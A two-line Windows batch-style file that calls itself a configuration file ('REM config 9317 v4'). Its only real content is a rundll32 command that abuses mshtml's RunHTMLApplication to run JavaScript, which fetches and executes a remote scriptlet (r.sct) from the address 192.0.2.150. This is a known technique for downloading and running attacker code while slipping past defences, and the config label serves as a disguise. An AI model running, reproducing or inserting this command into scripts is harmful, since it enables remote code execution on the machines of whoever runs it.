REM config 9317 v4
rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.150/r.sct")
